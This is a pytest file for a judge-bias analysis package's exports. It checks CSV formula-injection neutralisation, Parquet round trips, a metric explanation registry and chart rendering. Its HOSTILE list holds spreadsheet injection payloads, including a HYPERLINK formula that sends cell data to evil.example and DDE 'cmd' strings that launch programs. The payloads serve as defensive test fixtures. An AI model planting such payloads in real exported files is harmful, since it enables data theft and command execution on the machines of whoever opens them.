"""Exports: CSV formula-injection neutralisation, Parquet round trip, explanations registry, chart images."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import plotly.graph_objects as go
import pytest
from hypothesis import given
from hypothesis import strategies as st

from judgebias_core.explanations import ALIASES, EXPLANATIONS, explanation
from judgebias_core.exports import chrome_path, csv_bytes, figure_image_bytes, neutralise_frame, parquet_bytes

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "<script>alert(1)</script>",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _read_csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_hostile_cells_are_neutralised_and_keep_their_text() -> None:
    frame = pd.DataFrame({"text": HOSTILE, "n": range(len(HOSTILE))})
    header, *rows = _read_csv_cells(csv_bytes(frame))
    assert header == ["text", "n"]
    cells = [row[0] for row in rows]
    assert all(not cell.lstrip().startswith(TRIGGERS) and not cell.startswith(TRIGGERS) for cell in cells)
    assert [cell[1:] if cell != HOSTILE[-1] else cell for cell in cells] == HOSTILE
    assert [row[1] for row in rows] == [str(i) for i in range(len(HOSTILE))]


def test_numbers_stay_numbers_and_headers_are_neutralised() -> None:
    frame = pd.DataFrame({"=judge": ["gpt-4"], "rate": [-0.25], "count": [-3]})
    header, row = _read_csv_cells(csv_bytes(frame))
    assert header == ["'=judge", "rate", "count"]
    assert row == ["gpt-4", "-0.25", "-3"]


def test_string_and_categorical_columns_are_neutralised() -> None:
    frame = pd.DataFrame({"s": pd.Series(["=1", "a"], dtype="string"), "c": pd.Categorical(["@x", "b"])})
    _, first, second = _read_csv_cells(csv_bytes(frame))
    assert first == ["'=1", "'@x"] and second == ["a", "b"]


def test_chrome_path_prefers_the_configured_browser(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    browser = tmp_path / "my-chrome"
    browser.write_text("#!/bin/sh\n")
    browser.chmod(0o755)
    monkeypatch.setenv("JUDGEBIAS_CHROME", str(browser))
    assert chrome_path() == str(browser)
    monkeypatch.setenv("JUDGEBIAS_CHROME", str(tmp_path / "missing"))
    assert chrome_path() != str(tmp_path / "missing")


def test_mixed_object_columns_only_touch_strings() -> None:
    frame = pd.DataFrame({"mixed": [["=x"], "+a", 3, None]})
    safe = neutralise_frame(frame)
    assert safe["mixed"].tolist()[:3] == [["=x"], "'+a", 3]
    assert frame["mixed"].tolist()[1] == "+a"  # the input is not modified


@given(st.lists(st.text(max_size=30), min_size=1, max_size=8))
def test_no_csv_cell_can_start_a_formula(values: list[str]) -> None:
    cells = [row[0] for row in _read_csv_cells(csv_bytes(pd.DataFrame({"v": values})))[1:]]
    for original, cell in zip(values, cells, strict=True):
        assert not cell.startswith(TRIGGERS) and not cell.lstrip().startswith(("=", "+", "-", "@"))
        assert cell in (original, "'" + original)


def test_parquet_round_trip_keeps_values() -> None:
    frame = pd.DataFrame({"judge": ["a", "b"], "flip_rate": [0.1, 0.25], "pairs": [10, 20], "mixed": [[1], "x"]})
    back = pd.read_parquet(io.BytesIO(parquet_bytes(frame)))
    assert back["flip_rate"].tolist() == [0.1, 0.25]
    assert back["pairs"].tolist() == [10, 20]
    assert back["mixed"].tolist() == ["[1]", "x"]


REQUIRED_METRICS = (
    "position_consistency", "flip_rate", "first_slot_share", "preference_fairness", "mcnemar",
    "repetition_stability", "repetition_floor", "overall_win_rate", "quality_gap", "ranking_safety",
    "position_share", "position_given_score", "permutation_vs_repeat", "within_item_spread", "ordering_rank",
    "bias_cost", "agreement", "disagreement", "kappa", "kappa_quadratic", "precision_recall", "pearson",
    "spearman", "kendall", "verbosity", "self_preference", "bradley_terry", "stepwise_aic",
)


def test_every_metric_of_methods_is_explained() -> None:
    assert set(REQUIRED_METRICS) <= set(EXPLANATIONS)
    for entry in EXPLANATIONS.values():
        assert entry.name and entry.meaning.endswith(".") and len(entry.formula) > 30 and entry.source
    assert all(target in EXPLANATIONS for target in ALIASES.values())
    assert explanation("cohen_kappa").key == "kappa"
    with pytest.raises(KeyError, match="known"):
        explanation("no-such-metric")


@pytest.mark.skipif(chrome_path() is None, reason="no Chromium on this machine")
def test_chart_images_render_with_local_chromium() -> None:
    fig = go.Figure(go.Bar(x=["<b>judge</b>", "b"], y=[0.2, 0.1]))
    png = figure_image_bytes(fig, "png", width=400, height=300, scale=1)
    svg = figure_image_bytes(fig, "svg", width=400, height=300)
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 1000
    assert svg.lstrip().startswith(b"<svg") and b"</svg>" in svg


def test_readable_csv_rounds_and_spells_out_headers() -> None:
    from judgebias_core.exports import readable_csv_bytes

    frame = pd.DataFrame({"judge": ["=a"], "PC": [0.81541666666666668], "binomial p": [1.234e-9],
                          "flip_rate_ci_low": [0.1], "pairs": [2400], "aic": [-586.2871]})
    header, row = _read_csv_cells(readable_csv_bytes(frame))
    assert header == ["judge", "position consistency", "binomial p", "flip rate ci low", "pairs", "aic"]
    assert row == ["'=a", "0.8154", "1.234e-09", "0.1", "2400", "-586.3"]
    assert pd.read_parquet(io.BytesIO(parquet_bytes(frame)))["PC"].iloc[0] == 0.81541666666666668  # raw kept


@given(st.floats(min_value=-1e6, max_value=1e6, allow_nan=False))
def test_readable_numbers_stay_within_rounding(value: float) -> None:
    from judgebias_core.exports import readable_number

    assert float(readable_number(value)) == pytest.approx(value, rel=1e-3, abs=1e-12 if abs(value) < 1e-4 else 0.05)
